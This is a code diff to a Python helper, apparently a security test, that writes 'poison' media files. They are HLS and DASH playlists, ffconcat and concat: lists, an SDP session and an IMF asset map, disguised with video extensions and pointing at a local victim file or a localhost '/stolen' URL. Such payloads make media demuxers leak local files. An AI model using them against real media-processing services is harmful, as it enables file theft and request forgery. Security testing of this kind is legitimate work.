@@ -6,8 +6,10 @@ def write_poison(folder, victim, port):
     near, url = victim.name, f"http://127.0.0.1:{port}/stolen"
     master = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://{victim}\n"
     mpd = (
-        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-main:2011">'
-        f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{near}</BaseURL></Representation></AdaptationSet></Period></MPD>'
+        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
+        'mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-main:2011">'
+        f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
+        f'<BaseURL>{near}</BaseURL></Representation></AdaptationSet></Period></MPD>'
     )
     texts = {
         "concat.webm": f"ffconcat version 1.0\nfile '{near}'\n",
@@ -18,7 +20,7 @@ def write_poison(folder, victim, port):
         "hls-url.mp4": f"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{url}\n#EXT-X-ENDLIST\n",
         "dash.mp4": mpd,
         "dash.mpd": mpd.replace(near, url),
-        "session.sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
+        "session.sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n",
         "frames.txt": f"subfile,,start,0,end,0,,:{victim}",
         "imf.mp4": f'<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>{near}</Path></AssetMap>',
         "pieces.mov": f"concat:{victim}|{victim}",
